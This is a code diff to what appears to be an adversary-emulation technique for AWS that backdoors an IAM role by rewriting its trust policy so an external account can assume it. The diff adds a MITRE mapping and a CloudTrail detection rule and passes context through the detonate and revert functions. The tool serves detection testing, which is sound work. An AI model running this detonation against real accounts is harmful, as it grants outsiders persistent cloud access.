@@ -44,9 +44,16 @@ Detonation:
 - Through [IAM Access Analyzer](https://docs.aws.amazon.com/IAM/latest/UserGuide/access-analyzer-resources.html#access-analyzer-iam-role),
 which generates a finding when a role can be assumed from a new AWS account or publicly.
 `,
-		Platform:           stratus.AWS,
-		IsIdempotent:       true,
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.Persistence},
+		Platform:              stratus.AWS,
+		IsIdempotent:          true,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence},
+		MitreAttackTechniques: []string{"T1098.003"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"eventSource": {"iam.amazonaws.com"}, "eventName": {"UpdateAssumeRolePolicy"}},
+			},
+			FalsePositives: []string{"Administrators updating the trust policy of roles"},
+		},
 		FrameworkMappings: []stratus.FrameworkMappings{
 			{
 				Framework: stratus.ThreatTechniqueCatalogAWS,
@@ -60,17 +67,17 @@ which generates a finding when a role can be assumed from a new AWS account or p
 			},
 		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	roleName := params["role_name"]
 	iamClient := iam.NewFromConfig(providers.AWS().GetConnection())
 
 	log.Println("Backdooring IAM role " + roleName + " by allowing sts:AssumeRole from an external AWS account")
-	err := updateAssumeRolePolicy(iamClient, roleName, maliciousIamPolicy)
+	err := updateAssumeRolePolicy(ctx, iamClient, roleName, maliciousIamPolicy)
 	if err != nil {
 		return errors.New("unable to backdoor IAM role: " + err.Error())
 	}
@@ -79,13 +86,13 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	roleName := params["role_name"]
 	roleTrustPolicy := strings.ReplaceAll(params["role_trust_policy"], "\\", "") // Terraform output adds backslashes for some reason
 	iamClient := iam.NewFromConfig(providers.AWS().GetConnection())
 
 	log.Println("Reverting trust policy of IAM role " + roleName + " to its original state")
-	err := updateAssumeRolePolicy(iamClient, roleName, roleTrustPolicy)
+	err := updateAssumeRolePolicy(ctx, iamClient, roleName, roleTrustPolicy)
 
 	if err != nil {
 		return errors.New("unable to backdoor IAM role: " + err.Error())
@@ -93,8 +100,8 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 	return nil
 }
 
-func updateAssumeRolePolicy(iamClient *iam.Client, roleName string, roleTrustPolicy string) error {
-	_, err := iamClient.UpdateAssumeRolePolicy(context.Background(), &iam.UpdateAssumeRolePolicyInput{
+func updateAssumeRolePolicy(ctx context.Context, iamClient *iam.Client, roleName string, roleTrustPolicy string) error {
+	_, err := iamClient.UpdateAssumeRolePolicy(ctx, &iam.UpdateAssumeRolePolicyInput{
 		RoleName:       &roleName,
 		PolicyDocument: &roleTrustPolicy,
 	})